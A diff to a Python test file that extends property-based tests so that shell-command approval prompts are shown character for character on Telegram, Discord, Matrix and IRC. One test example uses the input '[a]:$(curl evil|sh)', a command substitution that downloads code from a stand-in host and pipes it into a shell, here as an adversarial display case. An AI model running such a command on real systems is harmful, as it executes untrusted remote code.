@@ -4,15 +4,25 @@ shown text has each of their characters. The page has a test of its own in `test
 from __future__ import annotations
 
 import re
-from collections.abc import Sequence
+from collections.abc import Callable, Sequence
 from contextlib import nullcontext, suppress
 from dataclasses import replace
+from html.parser import HTMLParser
+from itertools import groupby
 
 import msgspec
 import pytest
 from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
+from hermes_platforms.discord.discord_link import TRAITS as DISCORD
+from hermes_platforms.discord.discord_link import fitting
+from hermes_platforms.discord.testing.discord_routes import shown_text
+from hermes_platforms.irc.formatting import to_irc
+from hermes_platforms.irc.irc_link import TRAITS as IRC
+from hermes_platforms.irc.splitting import CONTINUED, EXACT, pieces
+from hermes_platforms.matrix.formatting import content_of
+from hermes_platforms.matrix.matrix_link import TRAITS as MATRIX
 from hermes_platforms.telegram.formatting import to_markdown_v2
 from hermes_platforms.telegram.telegram_link import TRAITS as TELEGRAM
 from hermes_platforms.telegram.testing.bot_api_entities import parse_markdown_v2, utf16_length
@@ -31,7 +41,7 @@ from hermes_trio.gateway.outbound.exact_text import (
 )
 from hermes_trio.gateway.outbound.rows import Part
 from hermes_trio.gateway.turn.open_question import OpenQuestion, request_event
-from hermes_trio.platform.contract import Traits
+from hermes_trio.platform.contract import Refused, Traits
 from hermes_trio.tools.tool import Approval, NotShown
 
 CODE_POINT = re.compile(r"⟨U\+([0-9A-F]{4,6})⟩")
@@ -83,6 +93,66 @@ def telegram_shows(part: Part) -> list[str]:
     ]
 
 
+def discord_shows(part: Part) -> list[str]:
+    """Return the preformatted stretches as the simulated Discord shows them; nothing else is markup."""
+    text, _ = shown_text({"content": fitting(part.text, part.preformatted)}, has_files=False)
+    assert text == part.text
+    return [text[start:end] for start, end in part.preformatted]
+
+
+def matrix_shows(part: Part) -> list[str]:
+    """Return the preformatted stretches of the HTML as a client of Matrix reads it."""
+    content = content_of(part.text, part.preformatted)
+    assert content["body"] == part.text
+    page = CodeOfPage()
+    page.feed(str(content["formatted_body"]))
+    return page.stretches
+
+
+class CodeOfPage(HTMLParser):
+    """The texts of the code elements of a page."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.stretches: list[str] = []
+        self.is_inside = False
+
+    def handle_starttag(self, tag: str, attrs: object) -> None:
+        assert tag in ("pre", "code", "br")
+        if tag == "code":
+            self.stretches.append("")
+            self.is_inside = True
+
+    def handle_endtag(self, tag: str) -> None:
+        self.is_inside = self.is_inside and tag != "code"
+
+    def handle_data(self, data: str) -> None:
+        if self.is_inside:
+            self.stretches[-1] += data
+
+
+def irc_shows(part: Part) -> list[str]:
+    """Return the preformatted stretches of the lines that a client of IRC shows."""
+    lines: list[str] = []
+    for line in to_irc(part.text, part.preformatted):
+        first, *others = pieces(line, 100)
+        lines.append(first + "".join(one.removeprefix(CONTINUED) for one in others))
+    blocks = [
+        "\n".join(line.removeprefix(EXACT) for line in group)
+        for is_exact, group in groupby(lines, lambda line: line.startswith(EXACT))
+        if is_exact
+    ]
+    shown = []
+    for start, end in part.preformatted:
+        if part.text[start - 1 : start] in ("", "\n"):
+            shown.append(blocks.pop(0))
+        else:
+            shown.append(part.text[start:end])
+            assert any(shown[-1] in line for line in lines)
+    assert not blocks
+    return shown
+
+
 def plain_shows(part: Part) -> list[str]:
     """Return the preformatted stretches on a platform without markup, where lines of a block have a mark."""
     shown = [part.text[start:end] for start, end in part.preformatted]
@@ -90,6 +160,16 @@ def plain_shows(part: Part) -> list[str]:
         if part.text[:start].endswith("\n"):
             assert all(line.startswith(QUOTED) for line in part.text[start:end].split("\n"))
     return ["\n".join(line.removeprefix(QUOTED) for line in one.split("\n")) for one in shown]
+
+
+Shows = Callable[[Part], list[str]]
+PLATFORMS: dict[str, tuple[Traits, Shows]] = {
+    "telegram": (TELEGRAM, telegram_shows),
+    "discord": (DISCORD, discord_shows),
+    "matrix": (MATRIX, matrix_shows),
+    "irc": (IRC, irc_shows),
+}
+"""What each platform with markup shows of a message, read by other code than that which wrote it."""
 
 
 @PROPERTY
@@ -110,16 +190,17 @@ def test_texts_that_look_the_same_are_shown_differently(text: str, shown: str | 
     assert visible(text) == (shown or text)
 
 
+@pytest.mark.parametrize("platform", PLATFORMS)
 @PROPERTY
 @given(st.one_of(TEXTS, LONG), st.one_of(TEXTS, LONG), GRANTS, TEXTS)
 @example("[a]:$(curl evil|sh)", "/srv", ("network",), "This deletes.")
 @example("x" * 1500 + "`;`" + "y" * 9000, "/srv", (), "")
 @example("a " * 6000, "/srv", (), "")
 @example("make", "/srv", tuple(f"write /srv/{'long' * 150}/{number}" for number in range(4)), "w" * 900)
-def test_telegram_shows_the_command_its_directory_and_its_grants_exactly(
-    command: str, cwd: str, grants: tuple[str, ...], why: str
+def test_a_platform_shows_the_command_its_directory_and_its_grants_exactly(
+    platform: str, command: str, cwd: str, grants: tuple[str, ...], why: str
 ) -> None:
-    shows_exactly(Approval(command, why, cwd, grants=grants), TELEGRAM)
+    shows_exactly(Approval(command, why, cwd, grants=grants), *PLATFORMS[platform])
 
 
 @PROPERTY
@@ -137,18 +218,17 @@ def test_a_platform_without_markup_shows_the_command_its_directory_and_its_grant
     shows_exactly(Approval(command, "Because.", cwd, grants=grants), traits)
 
 
-def shows_exactly(asked: Approval, traits: Traits) -> None:
-    """Check that the messages show each character, or that the question is refused."""
+def shows_exactly(asked: Approval, traits: Traits, shows: Shows = plain_shows) -> None:
+    """Check that the messages show each character, or that the question or its form is refused."""
     shown = visible("\n".join((asked.exact, asked.place, asked.description, *asked.grants)))
     is_short = len(shown.encode()) + len(shown.split("\n")) * 4 < traits.limit // 6
-    with nullcontext() if asked.exact and is_short else suppress(NotShown):
-        whole_and_exact(asked, approval_parts(asked, 60, traits), traits)
+    with nullcontext() if asked.exact and is_short else suppress(NotShown, Refused):
+        whole_and_exact(asked, approval_parts(asked, 60, traits), traits, shows)
 
 
-def whole_and_exact(asked: Approval, parts: Sequence[Part], traits: Traits) -> None:
+def whole_and_exact(asked: Approval, parts: Sequence[Part], traits: Traits, shows: Shows) -> None:
     """Check that the messages show each character of what is asked, and nothing more."""
     assert len(parts) <= MOST_PARTS + 1
-    shows = telegram_shows if traits.dialect == "markdown" else plain_shows
     *before, last = map(shows, parts)
     left = list(last)
     assert original(left.pop(0) if asked.place else "") == asked.place
